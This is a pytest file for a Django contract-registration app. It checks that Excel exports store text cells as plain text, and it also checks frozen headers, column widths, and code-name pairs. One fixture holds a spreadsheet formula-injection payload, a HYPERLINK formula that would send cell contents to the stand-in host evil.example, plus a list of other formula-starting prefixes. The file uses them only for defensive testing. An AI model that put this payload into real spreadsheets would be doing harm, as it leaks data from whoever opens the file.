"""Excel exports: text is always text (no formula injection), headers frozen, widths set, names beside codes."""

from __future__ import annotations

import io
from datetime import date

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from registration import exports

from .factories import city_registry
from .statistics_factories import FOREIGN, registered

EVIL_NAME = '=HYPERLINK("http://evil.example/x?d="&C3,"查看")'
EVIL_NUMBER = "=1+1"
OTHER_STARTS = ["+SUM(A1)", "-2+3", "@SUM(A1)", "\t=1+2", "\r=1+2"]


@pytest.fixture
def year():
    return timezone.localdate().year


@pytest.fixture
def hostile(user_registrar, year):
    registry = city_registry(user_registrar)
    rows = [
        registered(
            user_registrar,
            registry,
            registered_on=date(year, 1, 2),
            project_name=EVIL_NAME,
            contract_number=EVIL_NUMBER,
            buyer=FOREIGN,
        )
    ]
    for i, start in enumerate(OTHER_STARTS):
        rows.append(
            registered(user_registrar, registry, registered_on=date(year, 1, 3 + i), project_name=f"{start} 合同{i}")
        )
    return rows


def _book(write):
    buffer = io.BytesIO()
    write(buffer)
    buffer.seek(0)
    return load_workbook(buffer)


def _text_cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    yield sheet, cell


def test_register_export_writes_every_text_cell_as_text(hostile, year):
    book = _book(lambda f: exports.register_workbook(year, f))
    sheet = book.active
    header = [c.value for c in sheet[2]]
    rows = {r[header.index("项目名称")].value: r for r in sheet.iter_rows(min_row=3)}
    evil = rows[EVIL_NAME]
    name_cell, number_cell = evil[header.index("项目名称")], evil[header.index("合同编号")]
    assert name_cell.value == EVIL_NAME and name_cell.data_type == "s"
    assert number_cell.value == EVIL_NUMBER and number_cell.data_type == "s"
    texts = list(_text_cells(book))
    assert len(texts) > 20
    for _sheet, cell in texts:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
    for start in OTHER_STARTS:
        # A leading tab is kept; XML turns a leading CR into a line feed. Either way the cell is text.
        assert any(cell.value.lstrip().startswith(start.strip()) and cell.data_type == "s" for _s, cell in texts), start


def test_register_export_layout_and_names_beside_codes(hostile, year):
    book = _book(lambda f: exports.register_workbook(year, f))
    sheet = book.active
    assert sheet.freeze_panes == "A3"
    assert sheet.column_dimensions["C"].width >= 30  # project name
    header = [c.value for c in sheet[2]]
    evil = next(r for r in sheet.iter_rows(min_row=3, values_only=True) if r[2] == EVIL_NAME)
    country = header.index("买方国别代码")
    assert header[country + 1] == "买方国别"
    assert evil[country] == "276" and evil[country + 1] == "德国"
    seller_region = header.index("卖方地区代码")
    assert header[seller_region + 1] == "卖方所在地区"
    assert evil[seller_region] == "350402"
    kind = header.index("合同类别代码")
    assert evil[kind] == "development" and evil[kind + 1] == "技术开发"
    field = header.index("技术领域代码")
    assert evil[field] == "materials" and evil[field + 1]


def test_statistics_export_is_frozen_sized_and_has_no_formulas(hostile, year):
    from registration import statistics

    stats = statistics.year_statistics(year)
    book = _book(lambda f: exports.statistics_workbook(stats, f))
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A3"
        assert sheet.column_dimensions["A"].width >= 20
    assert all(cell.data_type == "s" for _s, cell in _text_cells(book))
